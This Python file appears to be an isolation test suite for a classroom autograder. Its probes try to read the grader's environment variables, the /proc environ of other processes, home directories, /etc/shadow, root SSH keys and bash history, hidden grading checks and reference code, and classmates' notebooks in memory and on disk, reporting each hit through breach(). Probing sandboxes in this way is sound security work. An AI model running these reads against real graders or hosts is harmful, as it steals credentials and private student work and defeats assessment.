# ruff: noqa: F821
"""Exfiltrate: the grader's environment and home, system secrets, the hidden checks and a
classmate's code, put into our own feedback through notes and messages."""

import gc
import glob
import os
import pwd


@attempt
def environment_variables():
    for k, v in os.environ.items():
        if k == P["env_name"]:
            breach("env-in-os-environ", f"{k}={v}")


@attempt
def proc_environ():
    for pid in ["self", "1", str(os.getppid()), *map(str, batch_pids())]:
        data = read(f"/proc/{pid}/environ")
        if data and P["env_name"].encode() in data:
            breach(
                f"proc-environ-{'other' if pid not in ('self',) else 'self'}",
                data.decode("utf-8", "replace"),
            )


@attempt
def grader_home():
    homes = {P["home"], os.path.expanduser("~"), "/root"}
    try:
        homes.add(pwd.getpwuid(0).pw_dir)
    except KeyError:
        pass
    for pid in [os.getppid(), *batch_pids()]:
        for item in (read(f"/proc/{pid}/environ") or b"").split(b"\0"):
            if item.startswith(b"HOME="):
                homes.add(item[5:].decode())
    for home in homes:
        for path in glob.glob(os.path.join(home, "*")) + glob.glob(os.path.join(home, ".*")):
            data = read(path, 4096) if os.path.isfile(path) else None
            if data and P["home"] in path:
                breach("read-grader-home", data.decode("utf-8", "replace"))


@attempt
def system_secrets():
    data = read("/etc/shadow")
    if data:
        breach("read-etc-shadow", data.decode("utf-8", "replace").splitlines()[0])
    for path in ("/root/.bash_history", "/root/.ssh/id_rsa", "/etc/ssh/ssh_host_ed25519_key"):
        data = read(path, 200)
        if data:
            breach("read-" + os.path.basename(path), data[:60])


@attempt
def hidden_checks_and_reference():
    for base in {P["root"]}:
        for sub in ("checks", "reference"):
            for path in sorted(glob.glob(os.path.join(base, "autograder", sub, "*.py"))):
                src = read(path)
                if src and len(src) > 100:
                    breach("read-" + sub, source_line(src))


@attempt
def classmate_code_in_memory():
    for text in strings_in_memory(P["marker_prefix"], 20):
        breach("classmate-code-in-memory", text)
    for obj in gc.get_objects():
        if type(obj).__name__ == "CodeCell" and P["marker_prefix"] in str(
            getattr(obj, "source", "")
        ):
            breach("classmate-cell-in-memory", obj.source)
            break


@attempt
def classmate_notebook_on_disk():
    for path in glob.glob(os.path.join(P["submissions"], "**", "*.ipynb"), recursive=True):
        data = read(path, 8 << 20)
        if data and P["marker_prefix"].encode() in data:
            breach("read-classmate-notebook", data.decode("utf-8", "replace"))
            break
